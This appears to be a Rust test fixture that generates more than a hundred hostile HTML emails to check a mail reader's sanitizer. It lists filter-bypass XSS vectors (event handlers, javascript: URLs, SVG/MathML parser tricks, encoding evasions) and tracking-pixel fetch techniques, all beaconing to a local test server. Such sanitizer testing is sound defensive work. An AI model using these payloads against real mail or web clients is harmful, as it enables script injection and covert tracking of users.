//! A corpus of hostile HTML mail: script injection (tags, event handlers, `javascript:` URLs,
//! SVG and MathML tricks, parser confusion) and tracking (every way HTML and CSS can make a
//! viewer fetch a URL). Each vector names what it tries; its payload reports to the test if
//! it ever runs or fetches:
//! - a script that runs posts `xss:NAME` to the top window and requests `BASE/x/NAME`;
//! - a fetch requests `BASE/t/NAME`.
//!
//! `BASE` is a local HTTP server of the test's, counting requests.

/// One hostile message body.
#[derive(Debug, Clone)]
pub struct Vector {
    /// Short, unique, safe in a URL path and a subject.
    pub name: String,
    /// What it tries: `script` or `tracking`.
    pub kind: &'static str,
    /// The HTML, payloads filled in.
    pub html: String,
}

/// `(name, html)` with `{J}` for a script payload (no double quotes in it), `{JU}` for it as
/// a `javascript:` URL, and `{T}` for a tracking URL.
const SCRIPT: &[(&str, &str)] = &[
    ("script-tag", "<script>{J}</script>"),
    ("script-upper", "<SCRIPT>{J}</SCRIPT>"),
    ("script-slash-attr", "<script/x>{J}</script>"),
    ("script-src-data", "<script src=\"data:text/javascript,{J}\"></script>"),
    ("script-nested", "<scr<script>ipt>{J}</scr</script>ipt>"),
    ("script-double-lt", "<<script>{J}//<</script>"),
    ("script-in-attr-break", "<img alt=\"\"\"><script>{J}</script>\">"),
    ("script-in-comment-break", "<!--<img src=\"--><img src=x onerror=\"{J}\">-->"),
    ("script-cdata", "<![CDATA[<script>{J}</script>]]>"),
    ("script-in-template", "<template><script>{J}</script></template>"),
    ("script-in-noscript", "<noscript><p title=\"</noscript><img src=x onerror=\"{J}\">\"></noscript>"),
    ("script-in-textarea-break", "<textarea></textarea><script>{J}</script>"),
    ("script-in-title-break", "<title></title><script>{J}</script>"),
    ("script-type-module", "<script type=\"module\">{J}</script>"),
    ("script-event-for", "<script for=window event=onload>{J}</script>"),
    ("img-onerror", "<img src=x onerror=\"{J}\">"),
    ("img-onload-data", "<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\" onload=\"{J}\">"),
    ("img-onerror-unquoted", "<img src=x onerror={J}>"),
    ("img-onerror-entity", "<img src=x onerror=\"&#116;op.postMessage('xss:img-onerror-entity','*')\">"),
    ("svg-onload", "<svg onload=\"{J}\"></svg>"),
    ("svg-slash-onload", "<svg/onload=\"{J}\">"),
    ("svg-script", "<svg><script>{J}</script></svg>"),
    ("svg-script-href", "<svg><script href=\"data:text/javascript,{J}\"></script></svg>"),
    ("svg-animate-onbegin", "<svg><animate onbegin=\"{J}\" attributeName=x dur=1s></svg>"),
    ("svg-set-onbegin", "<svg><set onbegin=\"{J}\" attributeName=x to=1></svg>"),
    ("svg-a-xlink", "<svg><a xlink:href=\"{JU}\"><text y=20>clic</text></a></svg>"),
    ("svg-a-href", "<svg><a href=\"{JU}\"><text y=20>clic</text></a></svg>"),
    ("svg-animate-href", "<svg><a><animate attributeName=href values=\"{JU}\"/><text y=20>x</text></a></svg>"),
    ("svg-foreignobject", "<svg><foreignObject><iframe srcdoc=\"<script>{J}</script>\"></iframe></foreignObject></svg>"),
    ("svg-style-break", "<svg><style><img src=x onerror=\"{J}\"></style></svg>"),
    ("svg-use-data", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='{J}'/></svg>#x\"/></svg>"),
    ("math-maction", "<math><maction actiontype=statusline xlink:href=\"{JU}\">clic</maction></math>"),
    ("math-href", "<math href=\"{JU}\"><mi>x</mi></math>"),
    ("math-annotation-html", "<math><annotation-xml encoding=\"text/html\"><script>{J}</script></annotation-xml></math>"),
    ("math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=\"{J}\"></style></mglyph></table></mtext></math>"),
    ("math-mtext-mglyph", "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src=x onerror='{J}'>\"></style></mtext></svg></mglyph></h1></mtext></math>"),
    ("body-onload", "<body onload=\"{J}\">x</body>"),
    ("body-onpageshow", "<body onpageshow=\"{J}\">x</body>"),
    ("frameset-onload", "<frameset onload=\"{J}\"></frameset>"),
    ("details-ontoggle", "<details open ontoggle=\"{J}\"><summary>x</summary></details>"),
    ("marquee-onstart", "<marquee onstart=\"{J}\">x</marquee>"),
    ("video-source-onerror", "<video><source onerror=\"{J}\"></video>"),
    ("audio-onerror", "<audio src=x onerror=\"{J}\"></audio>"),
    ("input-autofocus", "<input autofocus onfocus=\"{J}\">"),
    ("select-autofocus", "<select autofocus onfocus=\"{J}\"></select>"),
    ("textarea-autofocus", "<textarea autofocus onfocus=\"{J}\"></textarea>"),
    ("button-autofocus", "<button autofocus onfocus=\"{J}\">x</button>"),
    ("div-onmouseover", "<div style=\"position:fixed;inset:0\" onmouseover=\"{J}\">survol</div>"),
    ("div-onanimationstart", "<style>@keyframes k{}</style><div style=\"animation-name:k\" onanimationstart=\"{J}\">x</div>"),
    ("div-ontransitionend", "<div style=\"transition:color 1ms\" ontransitionend=\"{J}\">x</div>"),
    ("object-onerror", "<object data=x onerror=\"{J}\"></object>"),
    ("iframe-srcdoc", "<iframe srcdoc=\"<script>{J}</script>\"></iframe>"),
    ("iframe-srcdoc-entities", "<iframe srcdoc=\"&lt;script&gt;{J}&lt;/script&gt;\"></iframe>"),
    ("iframe-js-src", "<iframe src=\"{JU}\"></iframe>"),
    ("iframe-data-src", "<iframe src=\"data:text/html,<script>{J}</script>\"></iframe>"),
    ("object-data-html", "<object data=\"data:text/html,<script>{J}</script>\"></object>"),
    ("object-svg", "<object type=\"image/svg+xml\" data=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{J}'/>\"></object>"),
    ("embed-data", "<embed src=\"data:text/html,<script>{J}</script>\">"),
    ("embed-svg", "<embed type=\"image/svg+xml\" src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{J}'/>\">"),
    ("a-js-href", "<a href=\"{JU}\">cliquez ici</a>"),
    ("a-js-entity", "<a href=\"&#106;avascript:{J}\">cliquez</a>"),
    ("a-js-tab", "<a href=\"jav&#x09;ascript:{J}\">cliquez</a>"),
    ("a-js-upper", "<a href=\"JaVaScRiPt:{J}\">cliquez</a>"),
    ("a-js-space", "<a href=\" javascript:{J}\">cliquez</a>"),
    ("a-data-html", "<a href=\"data:text/html,<script>{J}</script>\">ouvrir</a>"),
    ("a-vbscript", "<a href=\"vbscript:msgbox(1)\">vb</a>"),
    ("area-js", "<map name=m><area shape=rect coords=0,0,100,100 href=\"{JU}\"></map><img usemap=#m src=x>"),
    ("form-action-js", "<form action=\"{JU}\"><input type=submit value=Envoyer></form>"),
    ("button-formaction", "<form><button formaction=\"{JU}\">Envoyer</button></form>"),
    ("input-formaction", "<form><input type=submit formaction=\"{JU}\" value=ok></form>"),
    ("isindex-action", "<isindex action=\"{JU}\" type=image>"),
    ("meta-refresh-js", "<meta http-equiv=\"refresh\" content=\"0;url={JU}\">"),
    ("meta-refresh-data", "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html,<script>{J}</script>\">"),
    ("base-js", "<base href=\"javascript:/\"><a href=\"/{J}\">x</a>"),
    ("link-import", "<link rel=import href=\"data:text/html,<script>{J}</script>\">"),
    ("style-js-url", "<div style=\"background:url('{JU}')\">x</div>"),
    ("style-expression", "<div style=\"width:expression({J})\">x</div>"),
    ("style-behavior", "<div style=\"behavior:url(x.htc)\">x</div>"),
    ("style-moz-binding", "<div style=\"-moz-binding:url(x.xml#xss)\">x</div>"),
    ("style-import-js", "<style>@import '{JU}';</style>"),
    ("xml-namespace", "<html xmlns:x=\"http://www.w3.org/1999/xhtml\"><x:script>{J}</x:script></html>"),
    ("xmp-break", "<xmp><img src=x onerror=\"{J}\"></xmp>"),
    ("plaintext", "<plaintext><img src=x onerror=\"{J}\">"),
    ("noembed-break", "<noembed><img title=\"</noembed><img src=x onerror='{J}'>\"></noembed>"),
    ("noframes-break", "<noframes><img title=\"</noframes><img src=x onerror='{J}'>\"></noframes>"),
    ("dom-clobber", "<form id=top><input name=postMessage></form><img src=x onerror=\"{J}\">"),
    ("utf7", "+ADw-script+AD4-{J}+ADw-/script+AD4-"),
    ("null-byte", "<scr\u{0}ipt>{J}</scr\u{0}ipt>"),
    ("svg-handler-newline", "<svg\nonload\n=\n\"{J}\"></svg>"),
];

const TRACKING: &[(&str, &str)] = &[
    ("img-src", "<img src=\"{T}\" width=1 height=1>"),
    ("img-srcset", "<img srcset=\"{T} 1x\">"),
    ("img-src-https", "<img src=\"{T}?https\">"),
    ("img-lowsrc", "<img lowsrc=\"{T}\" src=\"data:,\">"),
    ("img-dynsrc", "<img dynsrc=\"{T}\">"),
    (
        "picture-source",
        "<picture><source srcset=\"{T}\"><img src=\"data:,\"></picture>",
    ),
    ("input-image", "<input type=image src=\"{T}\">"),
    ("body-background", "<body background=\"{T}\">x</body>"),
    (
        "table-background",
        "<table background=\"{T}\"><tr><td>x</td></tr></table>",
    ),
    ("td-background", "<table><tr><td background=\"{T}\">x</td></tr></table>"),
    ("style-attr-url", "<div style=\"background-image:url('{T}')\">x</div>"),
    ("style-attr-url-unquoted", "<div style=\"background:url({T})\">x</div>"),
    ("style-attr-escaped", "<div style=\"background:u\\72l({T})\">x</div>"),
    ("style-tag-url", "<style>body{background:url('{T}')}</style>x"),
    ("style-import", "<style>@import url('{T}');</style>x"),
    ("style-import-bare", "<style>@import '{T}';</style>x"),
    (
        "style-font-face",
        "<style>@font-face{font-family:f;src:url('{T}')}p{font-family:f}</style><p>x</p>",
    ),
    (
        "style-list-image",
        "<ul style=\"list-style-image:url('{T}')\"><li>x</li></ul>",
    ),
    (
        "style-border-image",
        "<div style=\"border:5px solid;border-image:url('{T}') 30\">x</div>",
    ),
    ("style-cursor", "<div style=\"cursor:url('{T}'),auto\">x</div>"),
    ("style-content", "<style>p::before{content:url('{T}')}</style><p>x</p>"),
    (
        "style-image-set",
        "<div style=\"background-image:image-set('{T}' 1x)\">x</div>",
    ),
    (
        "style-webkit-image-set",
        "<div style=\"background-image:-webkit-image-set(url('{T}') 1x)\">x</div>",
    ),
    (
        "style-mask",
        "<div style=\"-webkit-mask-image:url('{T}');mask-image:url('{T}')\">x</div>",
    ),
    ("style-filter", "<div style=\"filter:url('{T}#f')\">x</div>"),
    (
        "style-shape-outside",
        "<div style=\"float:left;shape-outside:url('{T}')\">x</div>",
    ),
    (
        "style-media-query",
        "<style>@media screen{body{background:url('{T}')}}</style>x",
    ),
    (
        "style-supports",
        "<style>@supports (display:block){body{background:url('{T}')}}</style>x",
    ),
    ("style-var", "<div style=\"--u:url('{T}');background:var(--u)\">x</div>"),
    ("link-stylesheet", "<link rel=stylesheet href=\"{T}\">x"),
    ("link-prefetch", "<link rel=prefetch href=\"{T}\">x"),
    ("link-preload", "<link rel=preload as=image href=\"{T}\">x"),
    ("link-dns-prefetch", "<link rel=dns-prefetch href=\"{T}\">x"),
    ("link-preconnect", "<link rel=preconnect href=\"{T}\">x"),
    ("link-icon", "<link rel=icon href=\"{T}\">x"),
    ("video-poster", "<video poster=\"{T}\"></video>"),
    ("video-src", "<video src=\"{T}\" autoplay></video>"),
    ("audio-src", "<audio src=\"{T}\" autoplay></audio>"),
    ("audio-source", "<audio autoplay><source src=\"{T}\"></audio>"),
    ("video-track", "<video><track src=\"{T}\" default></video>"),
    ("bgsound", "<bgsound src=\"{T}\">"),
    ("object-data", "<object data=\"{T}\"></object>"),
    ("embed-src", "<embed src=\"{T}\">"),
    ("iframe-src", "<iframe src=\"{T}\"></iframe>"),
    ("frame-src", "<frameset><frame src=\"{T}\"></frameset>"),
    ("applet", "<applet code=x codebase=\"{T}\"></applet>"),
    ("svg-image-href", "<svg><image href=\"{T}\" width=10 height=10/></svg>"),
    (
        "svg-image-xlink",
        "<svg><image xlink:href=\"{T}\" width=10 height=10/></svg>",
    ),
    ("svg-use-remote", "<svg><use href=\"{T}#x\"/></svg>"),
    (
        "svg-feimage",
        "<svg><filter id=f><feImage href=\"{T}\"/></filter><rect filter=url(#f) width=9 height=9/></svg>",
    ),
    (
        "svg-pattern-image",
        "<svg><pattern id=p><image href=\"{T}\"/></pattern><rect fill=url(#p) width=9 height=9/></svg>",
    ),
    (
        "svg-style-url",
        "<svg><style>rect{fill:url('{T}')}</style><rect width=9 height=9/></svg>",
    ),
    ("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url={T}\">"),
    (
        "meta-refresh-delayed",
        "<meta http-equiv=\"refresh\" content=\"1; URL='{T}'\">",
    ),
    ("base-href", "<base href=\"{T}/\"><img src=\"pixel.gif\">"),
    ("a-ping", "<a href=\"#\" ping=\"{T}\">lien</a>"),
    (
        "form-autosubmit",
        "<form action=\"{T}\" method=post><input name=a value=b></form>",
    ),
    (
        "img-in-svg-foreign",
        "<svg><foreignObject width=9 height=9><img src=\"{T}\"></foreignObject></svg>",
    ),
    ("math-img", "<math><mi><img src=\"{T}\"></mi></math>"),
    ("img-protocol-relative", "<img src=\"{T}\" alt=x>"),
];

/// Every vector, with scripts reporting to `base` (`http://127.0.0.1:PORT`).
pub fn vectors(base: &str) -> Vec<Vector> {
    let mut out = Vec::new();
    for (kind, list) in [("script", SCRIPT), ("tracking", TRACKING)] {
        for (name, template) in list {
            let script = format!("top.postMessage('xss:{name}','*');new Image().src='{base}/x/{name}'");
            let html = template
                .replace("{JU}", &format!("javascript:{script}"))
                .replace("{J}", &script)
                .replace("{T}", &format!("{base}/t/{name}"));
            out.push(Vector {
                name: (*name).to_owned(),
                kind,
                html,
            });
        }
    }
    out
}

/// The vector as a mail from `from` to `to`: HTML only, or (every other one) HTML with a text
/// alternative, to go through both shapes of the reader.
pub fn message(vector: &Vector, index: usize, from: &str, to: &str) -> String {
    let subject = format!("H{index:03} {}", vector.name);
    let html = format!(
        "<html><head><title>{subject}</title></head><body><p>Vecteur {}</p>{}</body></html>",
        vector.name, vector.html
    );
    let head = format!(
        "From: {from}\r\nTo: {to}\r\nSubject: {subject}\r\nDate: Mon, 15 Mar 2027 09:{:02}:00 +0100\r\n\
         Message-ID: <hostile.{index}.{}@test.example>\r\nMIME-Version: 1.0\r\n",
        index % 60,
        vector.name
    );
    if index.is_multiple_of(2) {
        format!("{head}Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{html}\r\n")
    } else {
        format!(
            "{head}Content-Type: multipart/alternative; boundary=\"alt\"\r\n\r\n--alt\r\n\
             Content-Type: text/plain; charset=utf-8\r\n\r\nVecteur {}\r\n--alt\r\n\
             Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{html}\r\n--alt--\r\n",
            vector.name
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_corpus_has_more_than_a_hundred_distinct_vectors_all_filled_in() {
        let all = vectors("http://127.0.0.1:1");
        assert!(all.len() >= 100, "{}", all.len());
        let mut names: Vec<&str> = all.iter().map(|v| v.name.as_str()).collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), all.len(), "names are unique");
        // Every vector reports itself, but the three whose payload is not JavaScript.
        let silent = ["a-vbscript", "style-behavior", "style-moz-binding"];
        for v in &all {
            let reports = match v.kind {
                "script" => v.html.contains(&format!("xss:{}", v.name)),
                _ => v.html.contains(&format!("/t/{}", v.name)),
            };
            assert!(reports || silent.contains(&v.name.as_str()), "{}", v.name);
            assert!(!v.html.contains("{J") && !v.html.contains("{T}"), "{}", v.name);
        }
    }
}
